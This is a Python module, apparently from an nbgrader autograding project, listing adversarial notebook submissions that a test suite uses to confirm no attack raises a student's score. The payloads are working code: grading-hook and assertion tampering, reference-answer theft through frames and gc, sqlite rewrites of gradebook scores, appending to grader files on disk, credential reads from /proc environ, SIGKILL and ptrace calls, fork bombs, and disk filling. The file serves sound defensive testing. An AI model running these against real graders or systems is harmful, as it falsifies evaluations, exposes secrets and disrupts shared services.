"""A catalogue of submissions that try to score more than their work, or to harm grading.

Each :class:`Attack` is a submission a determined student could hand in: a base (the blank
release, a submission with a wrong answer, or the right answers) plus code added to it, in
an answer cell or in a cell of its own, or edits of the notebook's metadata. Every kind the
grading issue (7) names is here (IPython's hooks, the gradebook, processes that outlive
their notebook, the grader's files on disk, frames, threads, subprocesses, em_lib's tables
of mistakes, printing hidden lines), and others: signals, sockets, ctypes, the file system,
the wire to the grader, metadata edits, values built to fool a comparison.

``tests/test_grading_attacks.py`` grades them all with the real ``nbgrader autograde`` and
checks that none scores more than its base does, cell by cell.

Fields: ``base`` is "blank", "wrong", "shape_only" or "right" (see ``BASES``); ``answers`` replace answer
cells ({grade_id: source}); ``cells`` are added after an answer cell ([(grade_id, source)]);
``edit`` changes the notebook JSON; ``keeps_full_marks``: built on the right answers, the
attack must not cost them anything either (the batch survives it).
"""

import copy
import textwrap
from dataclasses import dataclass, field


def _d(source):
    return textwrap.dedent(source).lstrip("\n")


@dataclass(frozen=True)
class Attack:
    name: str
    assignment: str
    base: str
    answers: dict = field(default_factory=dict)
    cells: tuple = ()
    edit: object = None
    keeps_full_marks: bool = False
    why: str = ""

    @property
    def student(self):
        return "attack_" + self.name


A01, A04 = "01_latent_variables", "04_e_and_m_steps"

#: A wrong log_joint (the weights forgotten: its shape is right, its values are not).
WRONG_LOG_JOINT = _d("""
    def log_joint(x, weights, means, variances):
        x = np.asarray(x, dtype=float)[:, None]
        return -0.5 * np.log(2 * np.pi * variances) - 0.5 * (x - means) ** 2 / variances
    """)

#: A log_joint that returns an array of the right shape and nothing else right (worth the shape point).
SHAPE_ONLY_LOG_JOINT = _d("""
    def log_joint(x, weights, means, variances):
        return np.zeros((np.size(x), np.size(weights)))
    """)

#: The bases: what each attack's work is worth without the attack ({assignment: {grade_id: source}};
#: "blank" is the release, "right" every answer of the source).
BASES = {
    "blank": {A01: {}, A04: {}},
    "wrong": {A01: {"log_joint_answer": WRONG_LOG_JOINT}},
    "shape_only": {A01: {"log_joint_answer": SHAPE_ONLY_LOG_JOINT}},
    "right": {A01: None, A04: None},
}


def _trying_log_joint(body):
    """A log_joint whose body tries something; if that fails, it is as blank as the release."""
    return "def log_joint(x, weights, means, variances):\n" + textwrap.indent(_d(body), "    ") + (
        "    raise NotImplementedError()\n")


def _delete_and_fake_test_cells(notebook):
    """Real test cells of log_joint deleted; cells claiming their grade ids, holding ``pass``, added."""
    cells = notebook["cells"]
    fakes = []
    for cell in list(cells):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution") and meta.get("grade_id", "").startswith("test_log_joint"):
            cells.remove(cell)
            fake = copy.deepcopy(cell)
            fake["source"] = "pass"
            fake["metadata"]["nbgrader"]["points"] = 0
            fakes.append(fake)
    cells.extend(fakes)
    return notebook


def _edit_test_cells_to_pass(notebook):
    """Every graded test cell's source replaced by a line that passes; points raised."""
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell["source"] = "print('all tests passed')"
            meta["points"] = 100
    return notebook


def _answer_cell_turned_into_a_test(notebook):
    """The answer cell of log_joint marked as a graded, locked test cell that always passes."""
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") == "log_joint_answer":
            meta.update(grade=True, solution=False, locked=True, points=50)
            cell["source"] = "pass"
    return notebook


ATTACKS = (
    # ---------------------------------------------------------------- the kernel and IPython
    Attack("ipython_hooks_clear_errors", A01, "blank", cells=(("log_joint_answer", _d("""
        import sys
        shell = getattr(sys.displayhook, "shell", None) or get_ipython()
        def forget_the_error(result):
            result.error_in_exec = None
            result.error_before_exec = None
        shell.events.register("post_run_cell", forget_the_error)
        shell.showtraceback = lambda *args, **kwargs: None
        shell.showsyntaxerror = lambda *args, **kwargs: None
        """)),), why="failing test cells reported success (issue 7)"),
    Attack("always_pass_numpy_and_assertions", A01, "wrong", cells=(("log_joint_answer", _d("""
        import builtins
        import numpy
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
        numpy.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.all = lambda *a, **k: True
        np.abs = lambda a: np.zeros(np.shape(a))
        np.isnan = lambda a: np.zeros(np.shape(a), dtype=bool)
        class _Never(Exception):
            pass
        builtins.abs = lambda a: 0.0
        builtins.all = lambda *a: True
        builtins.AssertionError = _Never
        """)),)),
    Attack("replace_reference_and_checks", A01, "wrong", cells=(("log_joint_answer", _d("""
        import em_lib, em_lib.feedback.core
        em_lib.log_joint = log_joint
        em_lib.mixture1d.log_joint = log_joint
        em_lib.feedback.core.close = lambda *a, **k: True
        em_lib.feedback.core.judge = lambda *a, **k: "correct"
        feedback.check_log_joint = lambda *a, **k: None
        """)),)),
    # ---------------------------------------------------------------- the checker's own state
    Attack("frame_walk_to_the_checker", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("expected", "reference", "wrong", "answer"):
                value = frame.f_locals.get(name)
                if value is not None and not callable(value):
                    return value
            frame = frame.f_back
        """)}, why="a wrong function returned the checker's local `expected` (issue 7)"),
    Attack("gc_scan_for_the_reference_values", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import gc
        shape = (np.size(x), np.size(weights))
        for obj in gc.get_objects():
            if isinstance(obj, dict):
                for value in list(obj.values()):
                    if isinstance(value, np.ndarray) and value.shape == shape and value is not x:
                        return value
        """)}),
    Attack("reference_in_a_worker_thread", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import concurrent.futures
        def reference():
            import em_lib.mixture1d
            return em_lib.mixture1d.log_joint(x, weights, means, variances)
        try:
            with concurrent.futures.ThreadPoolExecutor(1) as pool:
                return pool.submit(reference).result()
        except Exception:
            pass
        """)}, why="the reference called from a concurrent.futures thread (issue 7)"),
    Attack("reference_in_a_subprocess", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import json, subprocess, sys
        code = ("import json, sys, numpy as np, em_lib; a = json.loads(sys.argv[1]); "
                "print(json.dumps(em_lib.log_joint(*map(np.array, a)).tolist()))")
        args = json.dumps([np.asarray(v, dtype=float).tolist() for v in (x, weights, means, variances)])
        for python in (sys.executable, "python3", "/usr/bin/python3"):
            try:
                done = subprocess.run([python, "-c", code, args], capture_output=True, text=True, timeout=5)
                if done.returncode == 0:
                    return np.array(json.loads(done.stdout))
            except Exception:
                pass
        """)}, why="a `python -c` subprocess computing the reference (issue 7)"),
    Attack("tables_of_mistakes", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        try:
            from em_lib.feedback.likelihood import LOG_JOINT_MISTAKES
            transposed = LOG_JOINT_MISTAKES[-1].answer(x, weights, means, variances)
            return transposed.T
        except Exception:
            pass
        """)}, why="em_lib.feedback's tables of mistakes hold the reference (issue 7)"),
    Attack("import_finder_removed", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import importlib, sys
        sys.meta_path[:] = [f for f in sys.meta_path if "Hidden" not in type(f).__name__]
        for name in [m for m in sys.modules if m.startswith("em_lib")]:
            del sys.modules[name]
        sys.path[:0] = ["/work/main", "/root", "/home", "/srv", "/opt", "."]
        try:
            return importlib.import_module("em_lib.mixture1d").log_joint(x, weights, means, variances)
        except Exception:
            pass
        """)}),
    Attack("reference_source_searched_on_disk", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import os, site, sys
        for top in [sys.prefix, *site.getsitepackages(), "/work", "/srv", "/home", "/opt", "/scratch", "/tmp", "/sandbox"]:
            for folder, dirs, files in os.walk(top):
                for name in files:
                    if name == "mixture1d.py" or name.endswith("_finder.py"):
                        text = open(os.path.join(folder, name)).read()
                        if "def log_joint" in text:
                            namespace = {}
                            exec(text, namespace)
                            return namespace["log_joint"](x, weights, means, variances)
        """)}),
    # ---------------------------------------------------------------- hidden tests and inputs
    Attack("prints_history_and_inputs", A01, "right", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            import sys
            for name in ("In", "_ih", "Out"):
                print(name, sys.modules["__main__"].__dict__.get(name))
            try:
                print(get_ipython().history_manager.input_hist_raw)
            except Exception:
                pass
            print("inputs:", np.asarray(x).tolist(), weights, means, variances)
            print("inputs:", np.asarray(x).tolist(), file=sys.stderr)
            x = np.asarray(x, dtype=float)[:, None]
            return np.log(weights) - 0.5 * np.log(2 * np.pi * variances) - 0.5 * (x - means) ** 2 / variances
        """)}, why="a right function printing In[-1] put hidden test lines into the feedback (issue 7)"),
    Attack("hidden_inputs_in_error_messages", A01, "right", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            if np.asarray(x, dtype=float)[0] not in (190.0, 172.0):      # not a visible test's input
                raise ValueError("inputs: " + repr(np.asarray(x).tolist()) + repr(weights) + repr(means))
            x = np.asarray(x, dtype=float)[:, None]
            return np.log(weights) - 0.5 * np.log(2 * np.pi * variances) - 0.5 * (x - means) ** 2 / variances
        """)}, why="right on the visible tests, it puts a hidden test's inputs in its error message"),
    Attack("hidden_inputs_stashed_for_a_later_cell", A01, "right", answers={"log_joint_answer": _d("""
        SEEN = []
        def log_joint(x, weights, means, variances):
            SEEN.append(np.asarray(x).tolist())
            open("/scratch/seen.txt", "a").write(repr(np.asarray(x).tolist()))
            x = np.asarray(x, dtype=float)[:, None]
            return np.log(weights) - 0.5 * np.log(2 * np.pi * variances) - 0.5 * (x - means) ** 2 / variances
        """)}, cells=(("log_likelihood_answer", _d("""
        import os
        print("seen:", SEEN)
        if os.path.exists("/scratch/seen.txt"):
            print("on disk:", open("/scratch/seen.txt").read())
        """)),)),
    # ---------------------------------------------------------------- the gradebook and the grader's files
    Attack("gradebook_rewritten_with_sqlite", A01, "blank", cells=(("log_joint_answer", _d("""
        import os, sqlite3
        found = []
        for top in (os.getcwd(), "..", "../..", "/", "/work", "/tmp", "/srv", "/home"):
            for folder, dirs, files in os.walk(top):
                if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/root")):
                    dirs[:] = []
                    continue
                found += [os.path.join(folder, f) for f in files if f == "gradebook.db"]
        for path in found:
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
            db.execute("UPDATE source_cells SET source = 'pass'")
            db.commit()
        print("gradebooks found:", found)
        """)),), why="an answer cell set its own scores with sqlite3 (issue 7)"),
    Attack("detached_process_rewrites_grades_later", A01, "blank", cells=(("log_joint_answer", _d("""
        import os, subprocess, sys
        later = '''
        import os, sqlite3, time
        time.sleep(3)
        for folder, dirs, files in os.walk("/"):
            if folder.startswith(("/proc", "/sys", "/usr")):
                dirs[:] = []
            for f in files:
                if f == "gradebook.db":
                    db = sqlite3.connect(os.path.join(folder, f))
                    db.execute("UPDATE grade SET auto_score = 100")
                    db.commit()
        '''
        subprocess.Popen([sys.executable, "-c", later], start_new_session=True, close_fds=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", later])
            os._exit(0)
        """)),), why="a detached process rewrote the grades after autograde finished (issue 7)"),
    Attack("grader_code_rewritten_on_disk", A01, "blank", cells=(("log_joint_answer", _d("""
        import os
        patch = "\\ndef judge(*args, **kwargs):\\n    return 'correct'\\n"
        targets = []
        import site, sys
        for top in ("/", os.getcwd(), "..", sys.prefix, *site.getsitepackages()):
            for folder, dirs, files in os.walk(top):
                if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/root/.pyenv")):
                    dirs[:] = []
                    continue
                targets += [os.path.join(folder, f) for f in files
                            if f in ("core.py", "runner.py", "nbgrader_config.py") or f.endswith("_finder.py")]
        for path in targets + ["/work/main/em_lib/feedback/core.py", "/work/main/course_grading/runner.py"]:
            try:
                with open(path, "a") as f:
                    f.write(patch)
            except OSError:
                pass
        """)),), why="em_lib/feedback/core.py rewritten on disk changed the next student's grade (issue 7)"),
    # ---------------------------------------------------------------- processes, signals, sockets, ctypes
    Attack("signals_to_everything", A01, "blank", cells=(("log_joint_answer", _d("""
        import os, signal
        for target in (os.getppid(), 1, -1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        """)),)),
    Attack("sockets_to_local_services", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import glob, socket
        for port in list(range(8000, 8100)) + [22, 80, 443, 5432, 6379, 8888, 8765, 8766, 8767]:
            s = socket.socket()
            s.settimeout(0.05)
            try:
                s.connect(("127.0.0.1", port))
                s.sendall(b"GET /hub/api/users HTTP/1.0\\r\\n\\r\\n")
            except OSError:
                pass
        for path in glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/tmp/**/*", recursive=True):
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect(path)
            except OSError:
                pass
        """)}),
    Attack("ctypes_ptrace_and_setuid", A01, "blank", answers={"log_joint_answer": _trying_log_joint("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace(16, os.getppid(), None, None)      # PTRACE_ATTACH
        libc.ptrace(16, 1, None, None)
        libc.setuid(0)
        libc.unshare(0x10000000)                      # CLONE_NEWUSER
        """)}),
    Attack("environment_and_proc_read_for_tokens", A01, "blank", cells=(("log_joint_answer", _d("""
        import os
        secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
        for pid in os.listdir("/proc"):
            try:
                secrets[pid] = open(f"/proc/{pid}/environ").read()
            except OSError:
                pass
        print(secrets)
        """)),)),
    Attack("crash_the_process_with_ctypes", A01, "blank", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            import ctypes
            ctypes.string_at(0)
        """)}),
    Attack("deep_recursion_segfault", A01, "blank", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            import sys
            sys.setrecursionlimit(10**7)
            def down(n):
                return down(n + 1) + 1
            return down(0)
        """)}),
    # ---------------------------------------------------------------- the batch itself
    Attack("fork_bomb_in_a_cell", A01, "right", keeps_full_marks=True, cells=(("log_likelihood_answer", _d("""
        import os, time
        try:
            for _ in range(10000):
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
        except OSError:
            pass
        """)),)),
    Attack("memory_hog_in_a_cell", A01, "right", keeps_full_marks=True, cells=(("log_joint_answer", _d("""
        blocks = []
        while True:
            blocks.append(np.ones(1 << 24))   # 128 MB at a time, touched
        """)),)),
    Attack("disk_filled_in_a_cell", A01, "right", keeps_full_marks=True, cells=(("log_joint_answer", _d("""
        import os, tempfile
        for folder in ("/scratch", tempfile.gettempdir(), "/dev/shm"):
            try:
                with open(os.path.join(folder, "fill"), "wb") as f:
                    while True:
                        f.write(b"x" * (1 << 20))
            except OSError:
                pass
        """)),)),
    Attack("process_killed_in_a_cell", A01, "right", keeps_full_marks=True, cells=(("log_joint_answer", _d("""
        import os
        os._exit(3)
        """)),)),
    Attack("endless_loop_in_a_cell", A01, "right", keeps_full_marks=True, cells=(("log_likelihood_answer", _d("""
        while True:
            try:
                pass
            except KeyboardInterrupt:
                pass
        """)),)),
    Attack("output_flood", A01, "right", keeps_full_marks=True, cells=(("log_joint_answer", _d("""
        for i in range(200000):
            print("spam " * 20)
        """)),)),
    # ---------------------------------------------------------------- values built to fool a comparison
    Attack("object_equal_to_everything", A01, "blank", answers={"log_joint_answer": _d("""
        class Anything(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array__(self, *a, **k): raise RuntimeError
            def __len__(self): return 0
            shape = property(lambda self: (5, 2))
        def log_joint(x, weights, means, variances):
            return Anything(0.0)
        """)}),
    Attack("ndarray_subclass_that_lies", A01, "shape_only", answers={"log_joint_answer": _d("""
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
            def __sub__(self, other): return np.zeros(np.shape(other))
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)
        def log_joint(x, weights, means, variances):
            return np.zeros((np.size(x), np.size(weights))).view(Liar)
        """)}),
    Attack("nan_and_inf_everywhere", A01, "shape_only", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            out = np.full((np.size(x), np.size(weights)), np.nan)
            out[::2] = np.inf
            return out
        """), "log_likelihood_answer": _d("""
        def log_likelihood(x, weights, means, variances):
            return float("nan")
        """)}),
    Attack("huge_return_value", A01, "blank", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            return np.zeros((40_000_000, 2))
        """)}),
    Attack("deeply_nested_return_value", A01, "blank", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            value = []
            for _ in range(100000):
                value = [value]
            return value
        """)}),
    # ---------------------------------------------------------------- the wire to the grader
    Attack("garbage_on_the_wire", A01, "shape_only", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            import os
            for fd in range(3, 12):
                try:
                    os.write(fd, b"\\x00\\x00\\x00\\x10\\x00\\x00\\x00\\x00" + b"{" * 16)
                except OSError:
                    pass
            return np.zeros((np.size(x), np.size(weights)))
        """)}),
    Attack("forged_reply_on_the_wire", A01, "shape_only", answers={"log_joint_answer": _d("""
        def log_joint(x, weights, means, variances):
            import json, os, struct
            body = json.dumps({"dict": {"op": "returned", "value": {"opaque": "correct"}, "changed": []}}).encode()
            for fd in range(3, 12):
                try:
                    os.write(fd, struct.pack("!II", len(body), 0) + body)
                except OSError:
                    pass
            return np.zeros((np.size(x), np.size(weights)))
        """)}),
    # ---------------------------------------------------------------- the notebook's metadata
    Attack("test_cells_deleted_and_faked", A01, "blank", edit=_delete_and_fake_test_cells),
    Attack("test_cells_edited_to_pass", A01, "blank", edit=_edit_test_cells_to_pass),
    Attack("answer_cell_marked_as_a_test", A01, "blank", edit=_answer_cell_turned_into_a_test),
    # ---------------------------------------------------------------- notebook 04: what the grader serves
    Attack("served_references_stashed_for_later", A04, "blank", answers={
        "m_step_answer": _d("""
            import builtins
            def m_step(x, resp):
                return builtins.__dict__["STASH"]["m_step"](x, resp)
            """),
        "fit_em_answer": _d("""
            def fit_em(x, weights, means, variances, n_iter):
                import builtins
                builtins.STASH = {"m_step": m_step, "em_iteration": em_iteration}   # the references, during this test
                raise NotImplementedError()
            """)}),
    Attack("unserved_reference_through_em_lib", A04, "blank", answers={
        "em_iteration_answer": _d("""
            def em_iteration(x, weights, means, variances):
                for name in ("em_iteration", "m_step", "fit_em", "mixture1d"):
                    try:
                        return getattr(em_lib, name)(x, weights, means, variances)
                    except Exception:
                        pass
                return em_lib.__dict__["__getattr__"]("em_iteration")(x, weights, means, variances)
            """),
        "m_step_answer": _d("""
            def m_step(x, resp):
                import em_lib.mixture1d
                return em_lib.mixture1d.m_step(x, resp)
            """)}),
)
